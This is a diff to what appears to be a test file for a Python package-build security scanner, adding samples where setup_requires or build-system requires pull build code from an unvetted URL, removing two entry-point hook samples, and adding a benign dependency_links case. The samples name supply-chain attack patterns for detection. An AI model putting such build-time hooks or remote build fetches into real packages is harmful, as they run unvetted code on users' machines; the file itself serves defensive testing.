@@ -233,22 +233,6 @@ UNREAD_CODE = (
          "hooks.py": _COMMAND_CLASS},
     ),
     Technique(
-        "setup-cfg-distutils-commands-entry-point",
-        "",
-        Severity.CRITICAL,
-        {"setup.cfg": "[options.entry_points]\ndistutils.commands =\n"
-         "    build_py = tools.hooks:BuildPy\n",
-         "tools/__init__.py": "", "tools/hooks.py": _COMMAND_CLASS},
-    ),
-    Technique(
-        "pyproject-finalize-options-entry-point",
-        "",
-        Severity.CRITICAL,
-        {"pyproject.toml": _PYPROJECT + "[project.entry-points.'setuptools.finalize_distribution"
-         "_options']\ndemo = 'hooks:finalize'\n",
-         "hooks.py": "def finalize(dist):\n" + _indented(_RUN_DECODED, 1)},
-    ),
-    Technique(
         "another-setup-script-run-by-sandbox",
         "from setuptools import sandbox\nsandbox.run_setup('sub/setup.py', ['--version'])\n",
         Severity.CRITICAL,
@@ -256,9 +240,30 @@ UNREAD_CODE = (
     ),
 )
 
+# Build requirements fetched from a server no index vets: the build installs and runs them.
+BUILD_FETCHES = (
+    Technique(
+        "setup-requires-direct-url",
+        "from setuptools import setup\n"
+        "setup(name='demo', setup_requires=['helper @ https://example.invalid/h-1.0.tar.gz'])\n",
+    ),
+    Technique(
+        "setup-requires-from-dependency-links",
+        "from setuptools import setup\nsetup(name='demo', setup_requires=['helper'],\n"
+        "      dependency_links=['https://example.invalid/simple/helper/'])\n",
+    ),
+    Technique(
+        "build-system-requires-direct-url",
+        "",
+        files={"pyproject.toml": "[build-system]\nrequires = ['setuptools', "
+               "'helper @ https://example.invalid/h-1.0.tar.gz']\n"
+               "build-backend = 'setuptools.build_meta'\n"},
+    ),
+)
+
 BLOCKED = (
     IMPLICIT_CALLS + EXEC_BY_OTHER_NAMES + LOOKUPS + EXFILTRATION + WRITERS + DECODERS + ARGV
-    + CODE_REWRITE + UNREAD_CODE
+    + CODE_REWRITE + UNREAD_CODE + BUILD_FETCHES
 )
 
 # Ordinary build code near these techniques: it must stay below medium.
@@ -289,6 +294,12 @@ ORDINARY = (
         "build-tool-found-on-path",
         "import shutil, subprocess\n"
         "subprocess.check_call([shutil.which('cmake'), '-S', '.', '-B', 'build'])\n",
+        Severity.INFO,
+    ),
+    Technique(
+        "dependency-links-without-build-requirements",
+        "from setuptools import setup\nsetup(name='demo', setup_requires=[],\n"
+        "      install_requires=['six'], dependency_links=['https://example.invalid/six'])\n",
         Severity.INFO,
     ),
     Technique(
